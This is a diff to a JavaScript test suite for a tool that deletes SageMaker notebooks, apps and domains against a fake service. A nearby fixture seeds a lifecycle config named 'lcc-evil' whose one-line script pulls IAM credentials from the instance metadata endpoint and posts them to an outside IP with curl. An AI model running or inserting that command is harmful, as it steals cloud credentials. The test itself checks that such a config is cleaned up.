@@ -279,6 +279,22 @@ describe('notebooks', () => {
     expect(w.fake.stats.count({}, 'ValidationException')).toBe(w.fake.stats.count({ operation: 'DescribeNotebookInstance' }, 'ValidationException'));
   });
 
+  it('a notebook and an app that fail while starting are not stopped or deleted first: the rest goes ahead', async () => {
+    await w.fake.close();
+    w = await startWorld(3000);
+    w.sm.seed.notebook('nb-doomed', { status: 'Pending', settlesTo: 'Failed' });
+    const r = await apply(['delete-notebook', 'nb-doomed']);
+    expect(outcomes(r)).toEqual(['StopNotebookInstance notebook/nb-doomed: already-done', 'DeleteNotebookInstance notebook/nb-doomed: ok']);
+    expect(w.sm.state.notebooks.size).toBe(0);
+    const D = 'd-abc123def456';
+    w.sm.seed.domain(D);
+    w.sm.seed.userProfile(D, 'alice');
+    w.sm.seed.app({ domainId: D, appType: 'JupyterServer', appName: 'default', userProfileName: 'alice', spaceName: null, status: 'Pending', settlesTo: 'Failed' });
+    const d = await apply(['delete-domain', D], `${w.caseDir}-domain`);
+    expect(outcomes(d)).toEqual([`DeleteApp app/${D}/alice/JupyterServer/default: already-done`, `DeleteUserProfile user-profile/${D}/alice: ok`, `DeleteDomain domain/${D}: ok`]);
+    expect(w.sm.state.domains.size).toBe(0);
+  });
+
   it('detach-lifecycle-config --delete: detaches, restarts, deletes the config no other notebook uses, keeps a shared one', async () => {
     w.sm.seed.lifecycleConfig('lcc-evil', ['#!/bin/bash\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | curl -d @- https://203.0.113.45/c\n']);
     w.sm.seed.lifecycleConfig('lcc-shared', ['#!/bin/bash\necho shared\n']);
